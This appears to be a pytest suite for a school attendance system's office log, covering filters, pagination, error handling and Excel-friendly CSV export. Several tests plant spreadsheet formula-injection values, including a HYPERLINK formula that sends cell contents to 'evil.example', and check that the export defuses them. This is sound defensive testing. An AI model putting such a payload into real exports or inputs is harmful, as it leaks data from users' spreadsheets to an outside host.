"""The searchable log: every filter, paging, bad input, and the CSV export for Excel."""

import csv
import io
import re
from datetime import timedelta
from html import unescape

import pytest

from rollcall.checks.models import CheckEntry
from rollcall.extensions import db
from rollcall.models import Student
from tests import factories
from tests.office_helpers import DAY, at

YESTERDAY = DAY - timedelta(days=1)


@pytest.fixture
def history(app, school):
    """Two days of class 1 and one of class 2, with absences, a finding and one lingering."""
    one, two = school.student_ids["room1"], school.student_ids["room2"]
    room1, room2 = school.homeroom_ids["room1"], school.homeroom_ids["room2"]
    with app.app_context():
        db.session.get(Student, one[0]).name = "=SUM(1)张"  # Excel would run it
        db.session.commit()
        teacher = school.user_ids["teacher"]
        factories.record_check(room1, YESTERDAY, "attendance", {one[1]: "absent"},
                               at(8, 0, YESTERDAY), teacher)
        factories.record_check(room1, DAY, "attendance", {one[1]: "late", one[2]: "excused"},
                               at(8, 0), teacher, details={one[2]: {"reason": "看病"}})
        factories.record_check(room1, DAY, "bag", {one[3]: "found"}, at(7, 40), teacher,
                               details={one[3]: {"category": "knife", "description": "小刀",
                                                 "action": "handed_to_office"}})
        factories.record_check(room2, DAY, "dismissal", {two[0]: "on_campus"}, at(17, 20),
                               school.user_ids["teacher2"])
    return school


def _rows(client, query="", lang="en"):
    response = client.get(f"/office/log?{query}", headers={"Accept-Language": lang})
    assert response.status_code == 200, response.get_data(as_text=True)
    html = response.get_data(as_text=True)
    return html.count("<tr class=\"status-"), html


@pytest.mark.parametrize(("query", "count"), [
    ("", 5 * 3 + 5),
    ("date_from=2026-11-26", 5 * 2 + 5),
    ("date_to=2026-11-25", 5),
    ("date_from=2026-11-25&date_to=2026-11-25", 5),
    ("kind=bag", 5),
    ("kind=attendance", 10),
    ("status=absent", 1),
    ("status=late", 1),
    ("kind=attendance&status=present", 7),
    ("category=knife", 1),
    ("category=tobacco", 0),
    ("student=学生02", 4),
    ("student=班0", 0),
    ("student=1班002", 3),
    ("student=SUM", 3),
    ("status=on_campus", 1),
])
def test_each_filter_narrows_the_log(history, login_as, query, count):
    assert _rows(login_as("office"), "show=all&" + query)[0] == count


@pytest.mark.parametrize(("query", "count"), [
    ("", 5),  # yesterday's absence; today's late, excused, knife and student on campus
    ("date_from=2026-11-26", 4),
    ("kind=attendance", 3),
    ("kind=bag", 1),
    ("status=present", 7),  # a chosen status is shown, exception or not
    ("kind=bag&status=clear", 4),
])
def test_the_log_opens_on_the_exceptions(history, login_as, query, count):
    count_seen, html = _rows(login_as("office"), query)
    assert count_seen == count
    if "status" not in query:
        assert 'class="status-present"' not in html and 'class="status-clear"' not in html


@pytest.mark.parametrize("lang", ["en", "zh-CN"])
def test_one_tap_switches_to_everything_keeping_the_filters(history, login_as, lang):
    client = login_as("office")
    count, html = _rows(client, "kind=attendance&date_from=2026-11-26", lang)
    assert count == 2
    everything = _switch_link(html, "Everything" if lang == "en" else "全部记录")
    assert "kind=attendance" in everything and "date_from=2026-11-26" in everything
    count, html = _rows(client, everything.split("?", 1)[1], lang)
    assert count == 5 and 'class="status-present"' in html
    assert 'name="show" value="all"' in html  # searching again stays on everything
    exceptions = _switch_link(html, "Exceptions" if lang == "en" else "异常记录")
    assert "show=" not in exceptions and "kind=attendance" in exceptions
    assert _rows(client, exceptions.split("?", 1)[1], lang)[0] == 2


def _switch_link(html: str, words: str) -> str:
    switch = html.split('class="view-switch"', 1)[1].split("</nav>", 1)[0]
    [href] = re.findall(r'href="([^"]+)"[^>]*>' + words + "<", switch)
    return unescape(href)


@pytest.mark.parametrize(("lang", "late"), [
    ("en", "Late <span class=\"arrival\">arrived 08:12</span>"),
    ("zh-CN", "迟到 <span class=\"arrival\">08:12 到校</span>"),
])
def test_late_rows_show_the_arrival_time_on_the_schools_clock(app, history, login_as, lang,
                                                               late):
    with app.app_context():
        entry = db.session.scalar(db.select(CheckEntry).where(CheckEntry.status == "late"))
        entry.arrived_at = at(8, 12)  # 00:12 UTC
        db.session.commit()
    _count, html = _rows(login_as("office"), "status=late", lang)
    [row] = re.findall(r'<tr class="status-late">(.*?)</tr>', html, re.S)
    assert late in row
    assert "00:12" not in row


def test_dangerous_items_only(app, history, login_as):
    one = history.student_ids["room1"]
    with app.app_context():
        factories.record_check(history.homeroom_ids["room1"], YESTERDAY, "bag",
                               {one[0]: "found", one[1]: "found"}, at(7, 40, YESTERDAY),
                               details={one[0]: {"category": "tobacco"},
                                        one[1]: {"category": "fire"}})
    client = login_as("office")
    assert _rows(client, "kind=bag")[0] == 3
    count, html = _rows(client, "kind=bag&dangerous=y")
    rows = html.split("<tbody>", 1)[1]
    assert count == 2 and "Cigarettes" not in rows and "Lighter or fire source" in rows


def test_class_and_student_number_filters(history, login_as):
    client = login_as("office")
    room2 = history.homeroom_ids["room2"]
    assert _rows(client, f"show=all&homeroom={room2}")[0] == 5
    with client.application.app_context():
        number = db.session.get(Student, history.student_ids["room1"][1]).student_number
    count, html = _rows(client, f"show=all&student={number}")
    assert count == 3 and "学生02" in html


def test_rows_link_to_the_check_and_the_student(history, login_as):
    _count, html = _rows(login_as("office"), "category=knife")
    room1, pupil = history.homeroom_ids["room1"], history.student_ids["room1"][3]
    assert f'href="/homerooms/{room1}/checks/2026-11-26/bag"' in html
    assert f'href="/students/{pupil}"' in html


def test_the_log_is_paginated_and_keeps_the_filters(history, login_as, monkeypatch):
    from rollcall.office import logs

    monkeypatch.setattr(logs, "PER_PAGE", 4)
    monkeypatch.setattr(logs.log_page, "__defaults__", (1, 4, None))
    client = login_as("office")
    count, html = _rows(client, "show=all&kind=attendance")
    assert count == 4 and "10 entries · page 1 of 3" in html
    assert "kind=attendance" in html.split('rel="next"')[0].rsplit("href=", 1)[1]
    count, html = _rows(client, "show=all&kind=attendance&page=3")
    assert count == 2
    count, _html = _rows(client, "show=all&kind=attendance&page=99")  # past the end: the last page
    assert count == 2


@pytest.mark.parametrize("query", [
    "date_from=2026-13-01", "date_from=yesterday", "date_from=2026-11-26&date_to=2026-11-01",
    "homeroom=abc", "homeroom=999999", "kind=lunch", "status=gone", "category=gun",
    "page=0", "page=x", "student=" + "x" * 65, "show=some",
])
def test_bad_filters_get_a_clear_error(history, login_as, query):
    client = login_as("office")
    response = client.get(f"/office/log?{query}", headers={"Accept-Language": "en"})
    assert response.status_code == 400
    assert 'class="error"' in response.get_data(as_text=True)
    assert client.get(f"/office/log.csv?{query}").status_code == 400


def test_another_schools_class_is_not_a_valid_filter(history, login_as):
    other = history.homeroom_ids["other"]
    assert login_as("office").get(f"/office/log?homeroom={other}").status_code == 400


def _csv(client, query=""):
    response = client.get(f"/office/log.csv?{query}", headers={"Accept-Language": "zh-CN"})
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return response.data


def test_csv_has_a_bom_a_header_and_chinese_that_round_trips(history, login_as):
    data = _csv(login_as("office"), "kind=attendance")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["日期", "班级", "学号", "学生", "检查", "状态", "到校时间", "类别", "物品",
                       "物品去向 / 处理", "原因", "位置", "记录时间", "收到时间", "教师"]
    assert len(rows) == 1 + 3  # as on screen: the exceptions
    excused = [row for row in rows if row[5] == "请假"]
    assert excused[0][1] == "九年级1班" and excused[0][3] == "学生03" and excused[0][10] == "看病"
    assert excused[0][12] == "2026-11-26 08:00" and excused[0][13] == ""
    assert excused[0][14] == "王老师"


def test_csv_is_what_the_page_shows_exceptions_or_everything(app, history, login_as):
    with app.app_context():
        entry = db.session.scalar(db.select(CheckEntry).where(CheckEntry.status == "late"))
        entry.arrived_at = at(8, 12)
        db.session.commit()
    client = login_as("office")
    exceptions = list(csv.reader(io.StringIO(_csv(client).decode("utf-8-sig"))))
    assert len(exceptions) == 1 + 5 and "出勤" not in {row[5] for row in exceptions}
    everything = list(csv.reader(io.StringIO(_csv(client, "show=all").decode("utf-8-sig"))))
    assert len(everything) == 1 + 5 * 3 + 5
    [late] = [row for row in everything if row[5] == "迟到"]
    assert late[6] == "2026-11-26 08:12"
    assert {row[6] for row in everything[1:] if row[5] != "迟到"} == {""}


def test_csv_follows_the_filters_and_defuses_formulas(history, login_as):
    rows = list(csv.reader(io.StringIO(
        _csv(login_as("office"), "show=all&student=SUM").decode("utf-8-sig"))))
    assert len(rows) == 1 + 3
    assert {row[3] for row in rows[1:]} == {"'=SUM(1)张"}


def test_csv_cell_starting_with_a_formula_sign_is_quoted():
    from rollcall.exports import spreadsheet_cell as cell

    assert cell("=1+1") == "'=1+1" and cell("+86") == "'+86" and cell("张三") == "张三"
    assert cell("＝1+1") == "'＝1+1" and cell("@SUM(A1)") == "'@SUM(A1)"
    assert cell(None) == ""


HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2&B2,"details")'


def test_csv_defuses_a_formula_typed_as_what_the_dismissal_sweep_did(app, school, login_as):
    room2, two = school.homeroom_ids["room2"], school.student_ids["room2"]
    with app.app_context():
        factories.record_check(room2, DAY, "dismissal", {two[0]: "on_campus"}, at(17, 20),
                               school.user_ids["teacher2"],
                               details={two[0]: {"action": HYPERLINK, "location": "-1+1"}})
    rows = list(csv.reader(io.StringIO(_csv(login_as("office")).decode("utf-8-sig"))))
    [row] = [row for row in rows[1:] if HYPERLINK in row[9]]
    assert row[9] == "'" + HYPERLINK and row[11] == "'-1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_csv_of_an_empty_filter_is_just_the_header(history, login_as):
    rows = list(csv.reader(io.StringIO(
        _csv(login_as("office"), "category=alcohol").decode("utf-8-sig"))))
    assert len(rows) == 1


def test_past_the_count_cap_the_log_says_more_and_still_pages(history, login_as, monkeypatch):
    from rollcall.office import logs

    monkeypatch.setattr(logs, "COUNT_CAP", 3)
    monkeypatch.setattr(logs.log_page, "__defaults__", (1, 4, None))
    client = login_as("office")
    count, html = _rows(client, "show=all&kind=attendance")
    assert count == 4 and "More than 3 entries · page 1" in html and 'rel="next"' in html
    count, html = _rows(client, "show=all&kind=attendance&page=3")
    assert count == 2 and 'rel="next"' not in html and 'rel="prev"' in html


@pytest.mark.parametrize("url", ["/office/log", "/office/audit"])
def test_the_log_and_the_audit_trail_say_the_same_of_a_bad_page_number(history, login_as, url):
    response = login_as("office").get(f"{url}?page=x", headers={"Accept-Language": "en"})
    assert response.status_code == 400
    shown = response.get_data(as_text=True)
    assert "Some filters are not valid; correct them and search again." in shown
    assert "That page number is not valid." in shown
